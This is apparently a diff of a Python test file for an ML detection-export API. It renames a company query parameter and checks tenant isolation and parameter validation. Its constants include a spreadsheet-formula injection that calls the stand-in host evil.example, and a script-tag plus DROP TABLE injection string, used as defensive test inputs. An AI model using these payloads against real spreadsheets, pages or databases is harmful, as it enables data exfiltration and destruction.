@@ -22,7 +22,7 @@ from wisebook_ml.storage import VerdictStore, open_database
 pytestmark = pytest.mark.parametrize("database_url", ["sqlite", "postgresql"], indirect=True)
 
 EXPORT = "/api/ml/export/"
-YEAR = {"societe_id": 1, "depuis": "2025-01-01", "jusque": "2025-12-31"}
+YEAR = {"societe": 1, "depuis": "2025-01-01", "jusque": "2025-12-31"}
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 MARKUP = "<script>alert(1)</script>'; DROP TABLE avis_detection; --"
 
@@ -147,7 +147,7 @@ def test_a_report_that_is_too_long_says_so(
 
 def test_of_other_companies_nothing(client: Client, filled: list[Detection]) -> None:
     for name in ("detections.csv", "rapport.html", "rapport.pdf"):
-        assert client("one").get(f"{EXPORT}{name}", params=YEAR | {"societe_id": 2}).status_code == 404
+        assert client("one").get(f"{EXPORT}{name}", params=YEAR | {"societe": 2}).status_code == 404
         assert client("none").get(f"{EXPORT}{name}", params=YEAR).status_code == 404
 
 
@@ -159,7 +159,7 @@ def test_a_period_without_any(client: Client, filled: list[Detection]) -> None:
 
 @pytest.mark.parametrize(
     "wrong",
-    [{"jusque": "2024-12-31"}, {"depuis": "hier"}, {"langue": "de"}, {"societe": 1}, {"societe_id": 0}],
+    [{"jusque": "2024-12-31"}, {"depuis": "hier"}, {"langue": "de"}, {"societe_id": 1}, {"societe": 0}],
 )
 def test_what_is_no_period(client: Client, wrong: dict[str, object]) -> None:
     assert client("one").get(f"{EXPORT}detections.csv", params=YEAR | wrong).status_code == 400
